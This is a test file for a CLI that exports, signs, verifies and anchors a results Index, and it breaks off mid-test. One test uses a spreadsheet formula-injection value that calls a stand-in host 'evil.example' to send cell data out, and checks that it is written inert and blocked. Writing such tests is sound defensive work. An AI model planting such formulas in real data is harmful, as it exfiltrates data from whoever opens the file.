import {
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join, relative, sep } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createIndexExportCommand, indexVerifyCommand } from '../../../main/cli/index-commands.ts';
import {
  createParticipantReferenceCommand,
  createParticipantRenameCommand,
} from '../../../main/cli/participant-commands.ts';
import { auditCommands } from '../../../main/cli/audit-commands.ts';
import { seasonReplayCommand } from '../../../main/cli/season-replay-command.ts';
import { auditRows } from '../../../main/db/audit-log.ts';
import { latestIndexVersion } from '../../../main/db/index-exports.ts';
import { draftIndex } from '../../../main/services/index-export/draft-index.ts';
import { canonical } from '../../../main/core/json/canonical.ts';
import { noticeSha256, signNotice } from '../../../main/core/notices/season-notice.ts';
import { openDatabase } from '../../../main/db/open-database.ts';
import { insertNotice } from '../../../main/db/season-notices.ts';
import { forgeIndex } from './support/forge-index.ts';
import { captureIo } from '../../support/capture-io.ts';
import { dispute, type Json } from '../disputes/support/published-close.ts';
import { chooseReport, publishedSeason } from './support/exported-season.ts';

let ctx: Awaited<ReturnType<typeof publishedSeason>>;
let alice: string;
let bob: string;

async function run(command: { run(a: string[], io: ReturnType<typeof captureIo>): Promise<number> }, args: string[]) {
  const io = captureIo();
  const code = await command.run(args, io);
  let doc: Json | null = null;
  try {
    doc = io.stdout ? (JSON.parse(io.stdout) as Json) : null;
  } catch {
    doc = null;
  }
  return { code, io, doc };
}
const exportTo = (out: string, extra: string[] = []) =>
  run(createIndexExportCommand(ctx.clock), [
    '--season',
    '1',
    '--db',
    ctx.db.dbFile,
    '--out',
    out,
    '--actor',
    'ana',
    '--json',
    ...extra,
  ]);
/**
 * `index verify DIR --json`, pinned to the operator key as a reader who obtained it elsewhere would (version 1's
 * signing-key.json, made before any tampering) unless the test pins otherwise (`--public-key`, `--trust`, or `[]` as
 * `pin` for none).
 */
const verify = (dir: string, extra: string[] = [], pin?: string[]) =>
  run(indexVerifyCommand, [
    dir,
    '--json',
    ...extra,
    ...(pin ?? (extra.includes('--trust') || extra.includes('--public-key') ? [] : pinnedKey())),
  ]);
const pinnedKey = () => ['--public-key', join(ctx.work, 'v1', 'signing-key.json')];
const rename = (id: string, name: string) =>
  run(createParticipantRenameCommand(ctx.clock), [
    '--season',
    '1',
    '--participant',
    id,
    '--display-name',
    name,
    '--db',
    ctx.db.dbFile,
    '--actor',
    'ana',
    '--json',
  ]);

beforeAll(async () => {
  ctx = await publishedSeason();
  alice = ctx.season.alice.participantId;
  bob = ctx.season.bob.participantId;
}, 300_000);
afterAll(async () => {
  ctx?.db.dispose();
  rmSync(ctx?.work ?? '/nonexistent', { recursive: true, force: true });
  await ctx?.season.net.close();
});

describe('proveit index export on a published devnet season', () => {
  it('a model name on a participant with unsupported assertions blocks the export (LINT_MODEL_NAME_NEGATIVE): nothing written, nothing recorded', async () => {
    expect((await rename(alice, 'Claude scout')).code).toBe(0);
    const out = join(ctx.work, 'blocked');
    const r = await exportTo(out);
    expect(r.code).toBe(1);
    expect(r.doc).toMatchObject({ ok: false, code: 'INDEX_LINT_FAILED' });
    expect(r.doc!['details'].findings.map((f: Json) => [f.code, f.file])).toEqual([
      ['LINT_MODEL_NAME_NEGATIVE', `reports/conformite/${alice}.html`],
      ['LINT_MODEL_NAME_NEGATIVE', `reports/conformite/${alice}.json`],
    ]);
    expect(existsSync(out)).toBe(false);
    const db = ctx.db.open();
    expect(latestIndexVersion(db, 1)).toBeUndefined();
    db.close();
  });

  it('a display name =HYPERLINK(...) is never a live formula in tables/*.csv: the draft writes it inert, the export is blocked (LINT_FORMULA_TEXT)', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
    expect((await rename(alice, formula)).code).toBe(0);
    const db = ctx.db.open();
    const draft = draftIndex(db, { season: 1, clock: ctx.clock });
    db.close();
    if (!draft.ok) throw new Error(draft.error.message);
    const csv = new TextDecoder().decode(draft.value.files.get('tables/conformite-community.csv'));
    const row = csv.split('\r\n').find((l) => l.includes(alice))!;
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",`);
    expect(row).not.toMatch(/(^|,)=/);
    const out = join(ctx.work, 'blocked-formula');
    const r = await exportTo(out);
    expect(r.code).toBe(1);
    expect(r.doc).toMatchObject({ ok: false, code: 'INDEX_LINT_FAILED' });
    expect(r.doc!['details'].findings.map((f: Json) => [f.code, f.file, f.where])).toEqual([
      ['LINT_FORMULA_TEXT', 'tables/conformite-community.csv', `conformite/${alice}: agent`],
    ]);
    expect(existsSync(out)).toBe(false);
  });

  it('after participant rename and participant reference, version 1 exports, signed, and verifies (exit 0)', async () => {
    expect((await rename(alice, 'Agent A')).code).toBe(0);
    const prompt = join(ctx.work, 'prompt.txt');
    writeFileSync(prompt, 'Answer each compliance question from the corpus only.\n');
    const marked = await run(createParticipantReferenceCommand(ctx.clock), [
      ...[
        '--season',
        '1',
        '--participant',
        bob,
        '--model',
        'Claude',
        '--version',
        'sonnet-4.5',
        '--framework',
        'proveit-runner',
      ],
      ...['--prompt', prompt, '--db', ctx.db.dbFile, '--actor', 'ana', '--json'],
    ]);
    expect(marked.code).toBe(0);
    // A notice published during the season (docs/season-service.md "Notices"): the Index lists it, the linter and the
    // verifier accept it.
    const notice = signNotice(
      {
        season: 1,
        kind: 'outage',
        track: null,
        textFr: 'Service de saison indisponible de 9 h à 9 h 30 (UTC).',
        textEn: 'Season service unavailable from 09:00 to 09:30 UTC.',
        tasks: null,
        window: { from: '2026-10-10T09:00:00.000Z', to: '2026-10-10T09:30:00.000Z' },
        reference: null,
        issuedAt: '2026-10-10T10:00:00.000Z',
      },
      new Uint8Array(32).fill(7),
    );
    const db = openDatabase(ctx.db.dbFile);
    insertNotice(db, {
      season: 1,
      kind: 'outage',
      track: null,
      incidentId: null,
      document: canonical(notice),
      documentSha256: noticeSha256(notice),
      issuedAt: '2026-10-10T10:00:00.000Z',
      url: 'http://127.0.0.1:9/v1/season/1/notice',
      actor: 'ana',
      createdAtMs: Date.parse('2026-10-10T10:00:00.000Z'),
    });
    db.close();
    const r = await exportTo(join(ctx.work, 'v1'));
    expect(r.io.stderr).toBe('');
    expect(r.doc).toMatchObject({ ok: true, index_version: 1, corrects_version: null, new_version: true });
    // The private key: a 0600 file beside the database, never in it.
    expect(statSync(join(ctx.db.dir, 'index-signing-key.pem')).mode & 0o777).toBe(0o600);
    const index = JSON.parse(readFileSync(join(ctx.work, 'v1', 'index.json'), 'utf8')) as Json;
    const conf = index['tracks'][0];
    expect(conf.track).toBe('conformite');
    expect(conf.reference_runs.map((x: Json) => [x.participant_id, x.reference.model])).toEqual([[bob, 'Claude']]);
    expect(conf.community.map((x: Json) => [x.participant_id, x.agent])).toEqual([[alice, 'Agent A']]);
    expect(conf.best_constant_answer.out_of).toBe(10);
    const html = readFileSync(join(ctx.work, 'v1', 'index.html'), 'utf8');
    expect(html).toContain('en attente');
    expect(html).toContain('Service de saison indisponible de 9 h à 9 h 30 (UTC).');
    expect(index['notices'].map((n: Json) => n.document_sha256)).toEqual([noticeSha256(notice)]);
    expect(readFileSync(join(ctx.work, 'v1', 'prompts', `${bob}.txt`), 'utf8')).toContain('corpus only');
    // The JSON copy of a renamed participant's report carries the display name, not the enrolled one.
    const report = JSON.parse(
      readFileSync(join(ctx.work, 'v1', 'reports', 'conformite', `${alice}.json`), 'utf8'),
    ) as Json;
    expect(report['agent_name']).toBe('Agent A');
    const v = await verify(join(ctx.work, 'v1'), ['--public-key', join(ctx.work, 'v1', 'signing-key.json')]);
    expect(v.code).toBe(0);
    expect(v.doc).toMatchObject({ ok: true, season: 1, index_version: 1 });
  });

  it('after a rename, no published file of the Index (bundles included) holds the old name; the published bundle replays identical and index verify passes', async () => {
    // Version 1, exported above after Alice (enrolled as "alice") was renamed "Agent A": every file, as bytes.
    const dir = join(ctx.work, 'v1');
    const files = readdirSync(dir, { recursive: true, withFileTypes: true })
      .filter((e) => e.isFile())
      .map((e) => relative(dir, join(e.parentPath, e.name)).split(sep).join('/'));
    expect(files).toContain('bundles/conformite/submissions.ndjson');
    expect(files).toContain('bundles/conformite/expected/scores.json');
    expect(files.filter((file) => readFileSync(join(dir, file)).includes(Buffer.from('alice')))).toEqual([]);
    const io = captureIo();
    expect(
      await seasonReplayCommand.run([join(dir, 'bundles', 'conformite'), '--out', join(ctx.work, 'replayed-v1')], io),
    ).toBe(3);
    // Exit 3: identical, Bob still pending (docs/replay-bundle.md "Commands").
    expect(io.stdout).toContain('identical');
    expect((await verify(dir)).code).toBe(0);
  });

  it('with the enrolled name on the model list, the renamed participant no longer blocks the export: the linter, which reads the bundles, finds it in no file', async () => {
    const names = join(ctx.work, 'names-with-alice.txt');
    writeFileSync(names, 'alice\n');
    const db = ctx.db.open();
    const draft = draftIndex(db, { season: 1, clock: ctx.clock, modelNames: ['alice'] });
    db.close();
    expect(draft.ok && draft.value.bundles.ok && draft.value.bundles.value.size).toBeGreaterThan(0);
    expect(draft.ok ? draft.value.findings : draft.error).toEqual([]);
    const r = await exportTo(join(ctx.work, 'with-alice-listed'), ['--names', names]);
    expect(r.doc).toMatchObject({ ok: true, index_version: 1, new_version: false });
  });

  it('the public key is in the audit log; the private key is in neither the export, the database nor the log', async () => {
    const pem = readFileSync(join(ctx.db.dir, 'index-signing-key.pem'), 'utf8');
    const body = pem.replace(/-----[A-Z ]+-----/g, '').replace(/\s+/g, '');
    const db = ctx.db.open();
    const rows = auditRows(db);
    db.close();
    const exported = rows.find((e) => e.action === 'index.export')!;
    const key = JSON.parse(readFileSync(join(ctx.work, 'v1', 'signing-key.json'), 'utf8')) as Json;
    expect(JSON.parse(exported.details)).toMatchObject({ index_version: 1, public_key: key['public_key'] });
    expect(rows.map((e) => e.action)).toEqual(
      expect.arrayContaining(['participant.rename', 'participant.reference', 'index.export']),
    );
    expect(JSON.stringify(rows)).not.toContain(body);
    expect(readFileSync(ctx.db.dbFile).includes(Buffer.from(body))).toBe(false);
    const audit = await run(
      auditCommands.find((c) => c.path[1] === 'verify')!,
      ['--db', ctx.db.dbFile, '--json'],
    );
    expect(audit.code).toBe(0);
  });

  it('exported again with nothing changed: the same version and the same bytes; --version 1 writes them again too', async () => {
    const again = await exportTo(join(ctx.work, 'v1-again'));
    expect(again.doc).toMatchObject({ ok: true, index_version: 1, new_version: false });
    const pinned = await exportTo(join(ctx.work, 'v1-pinned'), ['--version', '1']);
    expect(pinned.doc).toMatchObject({ ok: true, index_version: 1, new_version: false });
    for (const f of [
      'manifest.json',
      'manifest.sig.json',
      'index.html',
      'index.en.html',
      'tables/conformite-community.csv',
    ])
      for (const dir of ['v1-again', 'v1-pinned'])
        expect(readFileSync(join(ctx.work, dir, f)).equals(readFileSync(join(ctx.work, 'v1', f))), `${dir}/${f}`).toBe(
          true,
        );
  });

  it('a correction (an upheld dispute) exports as version 2, which names version 1 and shows the corrected figures', async () => {
    ctx.clock.current += 3600_000;
    const opened = await dispute(ctx.clock, ctx.db.dbFile, 'open', [
      ...['--season', '1', '--track', 'conformite', '--participant', alice, '--assertion', 'conf-01/a3'],
      ...['--reason', 'the value is the one served', '--actor', 'ana'],
    ]);
    expect(opened.code, opened.io.stderr).toBe(0);
    const decided = await dispute(ctx.clock, ctx.db.dbFile, 'decide', [
      opened.doc!['dispute_id'],
      ...[
        '--decision',
        'upheld',
        '--change',
        'supported',
        '--reason',
        'the frozen body carries it',
        '--reviewer',
        'rita',
      ],
    ]);
    expect(decided.code, decided.io.stderr).toBe(0);
    const r = await exportTo(join(ctx.work, 'v2'));
    expect(r.doc).toMatchObject({ ok: true, index_version: 2, corrects_version: 1, new_version: true });
    const manifest = JSON.parse(readFileSync(join(ctx.work, 'v2', 'manifest.json'), 'utf8')) as Json;
    expect(manifest).toMatchObject({ index_version: 2, corrects_version: 1 });
    expect(manifest['publications']).toEqual([expect.objectContaining({ track: 'conformite', version: 2 })]);
    expect(readFileSync(join(ctx.work, 'v2', 'index.en.html'), 'utf8')).toContain('Index version 2, exported');
    expect((await verify(join(ctx.work, 'v2'))).code).toBe(0);
  });
});

describe('refusals of export and participant commands', () => {
  it('an existing, non-empty --out is refused with INDEX_OUT_NOT_EMPTY; an unknown version with INDEX_VERSION_NOT_FOUND', async () => {
    expect((await exportTo(join(ctx.work, 'v1'))).doc).toMatchObject({ ok: false, code: 'INDEX_OUT_NOT_EMPTY' });
    expect((await exportTo(join(ctx.work, 'v9'), ['--version', '9'])).doc).toMatchObject({
      ok: false,
      code: 'INDEX_VERSION_NOT_FOUND',
    });
  });

  it('--version K with another signing key than the one that signed it is refused with INDEX_SIGNING_KEY_CHANGED', async () => {
    const r = await exportTo(join(ctx.work, 'v1-other-key'), [
      '--version',
      '1',
      '--key-file',
      join(ctx.work, 'other-key.pem'),
    ]);
    expect(r.doc).toMatchObject({ ok: false, code: 'INDEX_SIGNING_KEY_CHANGED' });
    expect(existsSync(join(ctx.work, 'v1-other-key'))).toBe(false);
  });

  it('rename: an unknown participant is PARTICIPANT_UNKNOWN, a name on two lines PARTICIPANT_DISPLAY_NAME_INVALID, a missing flag exits 2', async () => {
    const unknown = await rename('nobody', 'X');
    expect([unknown.code, unknown.doc!['code']]).toEqual([1, 'PARTICIPANT_UNKNOWN']);
    const twoLines = await rename(alice, 'A\nB');
    expect([twoLines.code, twoLines.doc!['code']]).toEqual([1, 'PARTICIPANT_DISPLAY_NAME_INVALID']);
    const usage = await run(createParticipantRenameCommand(ctx.clock), ['--season', '1', '--db', ctx.db.dbFile]);
    expect(usage.code).toBe(2);
  });

  it('reference: an empty prompt is PARTICIPANT_REFERENCE_INVALID; a missing --prompt exits 2', async () => {
    const empty = join(ctx.work, 'empty.txt');
    writeFileSync(empty, '');
    const args = ['--season', '1', '--participant', alice, '--model', 'M', '--version', '1', '--framework', 'F'];
    const r = await run(createParticipantReferenceCommand(ctx.clock), [
      ...args,
      '--prompt',
      empty,
      '--db',
      ctx.db.dbFile,
      '--json',
    ]);
    expect([r.code, r.doc!['code']]).toEqual([1, 'PARTICIPANT_REFERENCE_INVALID']);
    expect((await run(createParticipantReferenceCommand(ctx.clock), [...args, '--db', ctx.db.dbFile])).code).toBe(2);
  });
});

describe('proveit index verify refuses a tampered export, naming the problem (exit 1)', () => {
  const copy = (name: string, from = 'v2') => {
    const dir = join(ctx.work, `tamper-${name}`);
    cpSync(join(ctx.work, from), dir, { recursive: true });
    return dir;
  };
  const refused = async (dir: string, extra: string[] = []) => {
    const r = await verify(dir, extra);
    expect(r.code).toBe(1);
    return r.doc!['problems'].map((p: Json) => p.code) as string[];
  };
  const reportOf = (id: string) => `reports/conformite/${id}.html`;

  it('unsigned: manifest.sig.json removed fails with INDEX_UNSIGNED', async () => {
    const dir = copy('unsigned');
    rmSync(join(dir, 'manifest.sig.json'));
    expect(await refused(dir)).toEqual(['INDEX_UNSIGNED']);
  });

  const forged = (name: string) => forgeIndex(copy(name));

  it('re-signed with another key (manifest, key and signature rewritten) fails with INDEX_KEY_MISMATCH against the published key', async () => {
    const dir = await forged('resigned');
    expect(await refused(dir, ['--public-key', join(ctx.work, 'v1', 'signing-key.json')])).toEqual([
      'INDEX_KEY_MISMATCH',
    ]);
  });

  it('a forged Index re-signed with a fresh key is refused INDEX_KEY_NOT_PINNED with the defaults (no --public-key, the production bundle pins no challenge DID), saying how to pin; the genuine one too', async () => {
    const dir = await forged('resigned-defaults');
    const r = await verify(dir, [], []);
    expect(r.code).toBe(1);
    expect(r.doc).toMatchObject({ ok: false, code: 'INDEX_KEY_NOT_PINNED' });
    expect(r.doc!['message']).toMatch(/key nobody pinned.*--public-key.*challenge_did/s);
    const genuine = await verify(join(ctx.work, 'v2'), [], []);
    expect([genuine.code, genuine.doc!['code']]).toEqual([1, 'INDEX_KEY_NOT_PINNED']);
    const text = await run(indexVerifyCommand, [dir]);
    expect([text.code, text.io.stdout]).toEqual([1, '']);
    expect(text.io.stderr).toContain(
      'proveit index verify: INDEX_KEY_NOT_PINNED: signature valid for a key nobody pinned',
    );
  });

  it('against a trust bundle whose challenge_did pins the operator key (the devnet\u2019s), the genuine Index verifies pinned by it and the forgery is INDEX_KEY_MISMATCH naming the bundle', async () => {
    const trust = ctx.season.net.devnet.info.trust_bundle;
    const genuine = await verify(join(ctx.work, 'v2'), ['--trust', trust]);
    expect(genuine.code, JSON.stringify(genuine.doc)).toBe(0);
    expect(genuine.doc!['pinned_by']).toMatch(/^the trust bundle 'devnet' \(challenge_did did:key:z6Mk/);
    const r = await verify(await forged('resigned-devnet-bundle'), ['--trust', trust]);
    expect([r.code, r.doc!['code']]).toEqual([1, 'INDEX_KEY_MISMATCH']);
    expect(r.doc!['message']).toContain("pinned by the trust bundle 'devnet'");
  });

  it('a --trust folder that does not load is INDEX_TRUST_UNREADABLE, not a silent fallback', async () => {
    const r = await verify(join(ctx.work, 'v2'), ['--trust', join(ctx.work, 'no-such-bundle')]);
    expect([r.code, r.doc!['code']]).toEqual([1, 'INDEX_TRUST_UNREADABLE']);
  });

  it('a symbolic link to a file, one to a folder, and an empty folder added to an Index are named: INDEX_FILE_NOT_REGULAR, INDEX_FILE_UNLISTED', async () => {
    const dir = copy('links');
    symlinkSync(join(dir, 'index.json'), join(dir, 'tables', 'index-copy.json'));
    symlinkSync(join(dir, 'reports'), join(dir, 'more-reports'));
    mkdirSync(join(dir, 'empty', 'deeper'), { recursive: true });
    const r = await verify(dir);
    expect(r.code).toBe(1);
    expect(r.doc!['problems'].map((p: Json) => [p.code, p.details.path, p.details.kind])).toEqual([
      ['INDEX_FILE_UNLISTED', 'empty/deeper', 'empty folder'],
      ['INDEX_FILE_NOT_REGULAR', 'more-reports', 'symbolic link'],
      ['INDEX_FILE_NOT_REGULAR', 'tables/index-copy.json', 'symbolic link'],
    ]);
  });

  it('a listed file replaced by a link to an identical copy outside the export is INDEX_FILE_NOT_REGULAR (and missing as a file)', async () => {
    const dir = copy('listed-link');
    const outside = join(ctx.work, 'outside-index.en.html');
    cpSync(join(dir, 'index.en.html'), outside);
    rmSync(join(dir, 'index.en.html'));
    symlinkSync(outside, join(dir, 'index.en.html'));
    expect(new Set(await refused(dir))).toEqual(new Set(['INDEX_FILE_MISSING', 'INDEX_FILE_NOT_REGULAR']));
  });

  it('a signature file from another key over the same manifest fails with INDEX_KEY_MISMATCH and INDEX_SIGNATURE_INVALID', async () => {
    const dir = copy('other-sig');
    const sig = JSON.parse(readFileSync(join(dir, 'manifest.sig.json'), 'utf8')) as Json;
    sig['public_key'] = '3b6a27bcceb6a42d62a3a8d02a6f0d73653215771de243a63ac048a18b59da29';
    writeFileSync(join(dir, 'manifest.sig.json'), JSON.stringify(sig));
    expect(await refused(dir)).toEqual(['INDEX_KEY_MISMATCH', 'INDEX_KEY_MISMATCH', 'INDEX_SIGNATURE_INVALID']);
  });

  it('the manifest edited after signing fails with INDEX_SIGNATURE_INVALID', async () => {
    const dir = copy('manifest-edited');
    const path = join(dir, 'manifest.json');
    writeFileSync(path, readFileSync(path, 'utf8').replace('"index_version":2', '"index_version":3'));
    expect(await refused(dir)).toEqual(['INDEX_SIGNATURE_INVALID']);
  });

  it('edited: one figure changed on the page fails with INDEX_FILE_EDITED naming the file', async () => {
    const dir = copy('edited');
    const path = join(dir, 'index.en.html');
    writeFileSync(path, readFileSync(path, 'utf8').replace('Agent A', 'Agent B'));
    const r = await verify(dir);
    expect(r.doc!['problems']).toEqual([
      expect.objectContaining({
        code: 'INDEX_FILE_EDITED',
        details: expect.objectContaining({ path: 'index.en.html' }),
      }),
    ]);
  });

  it('duplicated: a copy of a report beside it fails with INDEX_FILE_UNLISTED; a row twice in index.json with INDEX_ROW_DUPLICATED', async () => {
    const dir = copy('duplicated');
    cpSync(join(dir, reportOf(alice)), join(dir, `reports/conformite/${alice} (1).html`));
    expect(await refused(dir)).toEqual(['INDEX_FILE_UNLISTED']);
    const dir2 = copy('row-twice');
    const index = JSON.parse(readFileSync(join(dir2, 'index.json'), 'utf8')) as Json;
    index['tracks'][0].community.push(index['tracks'][0].community[0]);
    writeFileSync(join(dir2, 'index.json'), JSON.stringify(index));
    expect(await refused(dir2)).toEqual(['INDEX_FILE_EDITED', 'INDEX_ROW_DUPLICATED']);
  });

  it('spliced: a page from version 1 fails with INDEX_FILE_FROM_OTHER_EXPORT; a row from version 1 with INDEX_ROW_UNLISTED', async () => {
    const dir = copy('spliced-file');
    cpSync(join(ctx.work, 'v1', reportOf(alice)), join(dir, reportOf(alice)));
    expect(await refused(dir)).toEqual(['INDEX_FILE_FROM_OTHER_EXPORT']);
    const dir2 = copy('spliced-row');
    const v1 = JSON.parse(readFileSync(join(ctx.work, 'v1', 'index.json'), 'utf8')) as Json;
    const v2 = JSON.parse(readFileSync(join(dir2, 'index.json'), 'utf8')) as Json;
    v2['tracks'][0].community = v1['tracks'][0].community;
    writeFileSync(join(dir2, 'index.json'), JSON.stringify(v2));
    expect(await refused(dir2)).toEqual(['INDEX_FILE_EDITED', 'INDEX_ROW_UNLISTED']);
    const dir3 = copy('spliced-manifest');
    for (const f of ['manifest.json', 'manifest.sig.json']) cpSync(join(ctx.work, 'v1', f), join(dir3, f));
    expect(new Set(await refused(dir3))).toEqual(
      new Set(['INDEX_FILE_FROM_OTHER_EXPORT', 'INDEX_FILE_EDITED', 'INDEX_ROW_UNLISTED']),
    );
  });

  it('partly removed: a report deleted fails with INDEX_FILE_MISSING', async () => {
    const dir = copy('removed');
    rmSync(join(dir, reportOf(alice)));
    expect(await refused(dir)).toEqual(['INDEX_FILE_MISSING']);
  });

  it('no manifest at all fails with INDEX_MANIFEST_MISSING; a usage error exits 2', async () => {
    const dir = copy('no-manifest');
    rmSync(join(dir, 'manifest.json'));
    expect(await refused(dir)).toEqual(['INDEX_MANIFEST_MISSING']);
    expect((await run(indexVerifyCommand, [])).code).toBe(2);
    expect((await run(createIndexExportCommand(ctx.clock), ['--season', '1'])).code).toBe(2);
  });
});

describe('proveit index anchor: the manifest hash anchored through the Trust Layer, checked offline by index verify', () => {
  let anchored: string;
  const trust = () => ctx.season.net.devnet.info.trust_bundle;
  // The devnet's operator key, the one beside the database: its did:key is the challenge's DID.
  const operatorKeyFile = () => ctx.season.net.devnet.info.operator_key_file as string;

  it('anchors version 2 through the devnet proxy and the season host; verify reports it pending until its batch is anchored, pending on one witness until its Rekor entry is kept, then verified with its RFC 3161 time', async () => {
    const { operatorApiKey } = await import('../../devnet/support/trust-layer-calls.ts');
    const { indexAnchorCommand } = await import('../../../main/cli/index-commands.ts');
    const trustLayer = ctx.season.net.devnet.info.trust_layer;
    const keyFile = join(ctx.work, 'operator.key');
    writeFileSync(keyFile, `${await operatorApiKey(trustLayer, 'index-operator@example.org', operatorKeyFile())}\n`);
    anchored = join(ctx.work, 'v2-anchored');
    cpSync(join(ctx.work, 'v2'), anchored, { recursive: true });
    const r = await run(indexAnchorCommand, [
      anchored,
      ...['--trust-layer', trustLayer, '--api-key-file', keyFile, '--season-base', 'http://proveit.devnet.localhost'],
      ...['--db', ctx.db.dbFile, '--actor', 'index-operator', '--json'],
    ]);
    expect(r.code, r.io.stderr + r.io.stdout).toBe(0);
    expect(r.io.stdout + r.io.stderr).not.toContain(readFileSync(keyFile, 'utf8').trim());
    const db = ctx.db.open();
    const entry = auditRows(db).at(-1)!;
    db.close();
    expect(entry).toMatchObject({ action: 'index.anchor', actor: 'index-operator' });
    expect(JSON.stringify(entry)).toContain(String(r.doc!['proof_id']));
    expect(JSON.stringify(entry)).not.toContain(readFileSync(keyFile, 'utf8').trim());
    const pending = await verify(anchored, ['--trust', trust()]);
    expect(pending.doc).toMatchObject({ ok: true, anchor: { status: 'pending', proof_id: r.doc!['proof_id'] } });
    await ctx.season.net.devnet.closeBatch();
    const view = await fetch(`${trustLayer}/v1/proof/${r.doc!['proof_id']}`);
    const viewBytes = Buffer.from(await view.arrayBuffer());
    writeFileSync(join(anchored, 'anchor', 'proof.json'), viewBytes);
    // An Index anchor with one witness is pending: the RFC 3161 token alone never dates the version.
    const oneWitness = await verify(anchored, ['--trust', trust()]);
    expect(oneWitness.code, JSON.stringify(oneWitness.doc)).toBe(0);
    expect(oneWitness.doc!['anchor']).toMatchObject({
      status: 'pending',
      anchored_at: null,
      one_witness: { code: 'INDEX_ANCHOR_ONE_WITNESS', witness: 'rekor', witness_code: 'WITNESS_OFFLINE' },
    });
    expect(oneWitness.doc!['anchor'].one_witness.message).toContain('anchor/rekor-entry.json');
    const logUrl = (JSON.parse(viewBytes.toString('utf8')) as Json)['transparency_log'].log_url as string;
    writeFileSync(join(anchored, 'anchor', 'rekor-entry.json'), Buffer.from(await (await fetch(logUrl)).arrayBuffer()));
    const done = await verify(anchored, ['--trust', trust()]);
    expect(done.code, JSON.stringify(done.doc)).toBe(0);
    expect(done.doc!['anchor']).toMatchObject({
      status: 'verified',
      anchored_at: expect.stringMatching(/^2026-/),
      one_witness: null,
    });
  });

  it('an Index anchor whose Rekor step the Trust Layer failed is refused INDEX_ANCHOR_ONE_WITNESS: anchor it again', async () => {
    const dir = join(ctx.work, 'v2-anchor-log-failed');
    cpSync(anchored, dir, { recursive: true });
    rmSync(join(dir, 'anchor', 'rekor-entry.json'));
    const view = JSON.parse(readFileSync(join(dir, 'anchor', 'proof.json'), 'utf8')) as Json;
    view['transparency_log'] = { status: 'failed' };
    writeFileSync(join(dir, 'anchor', 'proof.json'), JSON.stringify(view));
    const refusedOne = await verify(dir, ['--trust', trust()]);
    expect(refusedOne.code).toBe(1);
    const problems = refusedOne.doc!['problems'] as Json[];
    expect(problems.map((p) => p['code'])).toEqual(['INDEX_ANCHOR_ONE_WITNESS']);
    expect(problems[0]!['message']).toMatch(/never have both witnesses.*proveit index anchor DIR/);
  });

  it('index export with --trust-layer, --api-key-file and --season-base anchors what it writes (index.anchor audited)', async () => {
    const { operatorApiKey } = await import('../../devnet/support/trust-layer-calls.ts');
    const trustLayer = ctx.season.net.devnet.info.trust_layer;
    const keyFile = join(ctx.work, 'operator-2.key');
    writeFileSync(keyFile, `${await operatorApiKey(trustLayer, 'index-operator-2@example.org', operatorKeyFile())}\n`);
    const out = join(ctx.work, 'v2-exported-and-anchored');
    const r = await exportTo(out, [
      ...['--trust-layer', trustLayer, '--api-key-file', keyFile, '--season-base', 'http://proveit.devnet.localhost'],
    ]);
    expect(r.code, r.io.stderr + r.io.stdout).toBe(0);
    expect(r.doc!['anchor']).toMatchObject({ proof_id: expect.stringMatching(/^prf_/) });
    const checked = await verify(out, ['--trust', trust()]);
    expect(checked.doc).toMatchObject({ ok: true, anchor: { status: 'pending', proof_id: r.doc!['anchor'].proof_id } });
    const db = ctx.db.open();
    expect(auditRows(db).at(-1)).toMatchObject({ action: 'index.anchor', actor: 'ana' });
    db.close();
  });

  it('the console\u2019s index.anchor anchors the newest export through the Trust Layer given at start, as `index anchor` does, audited as the person acting; the API key never in the answer', async () => {
    const { operatorApiKey } = await import('../../devnet/support/trust-layer-calls.ts');
    const { openConsole } = await import('../../../main/console/open-console.ts');
    const { createConsoleHandlers } = await import('../../../main/console/console-handlers.ts');
    const { createDispatcher } = await import('../../../main/ipc/dispatcher.ts');
    const { NO_SERVICES } = await import('../../../main/console/console-services.ts');
    const trustLayer = ctx.season.net.devnet.info.trust_layer;
    const apiKey = await operatorApiKey(trustLayer, 'index-operator-3@example.org', operatorKeyFile());
    // The console's exports live in index-exports/ beside the database; the newest is the one anchored.
    const newest = join(dirname(ctx.db.dbFile), 'index-exports', `season-1-${Date.now()}`);
    cpSync(join(ctx.work, 'v2'), newest, { recursive: true });
    const opened = openConsole({
      mode: 'headless',
      dbFile: ctx.db.dbFile,
      defaultCorpusDir: ctx.work,
      clock: ctx.clock,
      services: { ...NO_SERVICES, freeze: { trustLayer, apiKey, seasonBase: 'http://proveit.devnet.localhost' } },
      actor: 'Dana Roy',
    });
    try {
      await opened.ready;
      const answer = await createDispatcher(createConsoleHandlers(opened.ctx))('index.anchor', { season: 1 });
      expect(answer, JSON.stringify(answer)).toMatchObject({
        ok: true,
        value: { season: 1, index_version: 2, proof_id: expect.stringMatching(/^prf_/), out_dir: newest },
      });
      expect(JSON.stringify(answer)).not.toContain(apiKey);
      const db = ctx.db.open();
      const entry = auditRows(db).at(-1)!;
      db.close();
      expect(entry).toMatchObject({ action: 'index.anchor', actor: 'Dana Roy' });
      const checked = await verify(newest, ['--trust', trust()]);
      expect(checked.doc).toMatchObject({ ok: true, anchor: { status: 'pending' } });
    } finally {
      await opened.close();
    }
  });

  it('index export with only some of the anchoring options is a usage error (exit 2), nothing written', async () => {
    const out = join(ctx.work, 'half-anchored');
    const r = await exportTo(out, ['--trust-layer', 'http://127.0.0.1:9']);
    expect(r.code).toBe(2);
    expect(r.io.stderr).toContain('--api-key-file FILE');
    expect(existsSync(out)).toBe(false);
  });

  it("an Index anchored through the proxy under a participant's DID fails with INDEX_ANCHOR_FOREIGN_DID naming both DIDs", async () => {
    const { participantKey } = await import('../../../devnet/scripted/participant-key.ts');
    const { indexAnchorCommand } = await import('../../../main/cli/index-commands.ts');
    const { challengeDidOf } = await import('../../../main/core/operator/challenge-did.ts');
    const trustLayer = ctx.season.net.devnet.info.trust_layer;
    // A participant's key, bound to its own did:key: the anchor document stays the operator's, signed by its key.
    const participant = await participantKey(trustLayer, 'index-participant@example.org');
    const keyFile = join(ctx.work, 'participant.key');
    writeFileSync(keyFile, `${participant.apiKey}\n`);
    const dir = join(ctx.work, 'v2-foreign-anchor');
    cpSync(join(ctx.work, 'v2'), dir, { recursive: true });
    const r = await run(indexAnchorCommand, [
      dir,
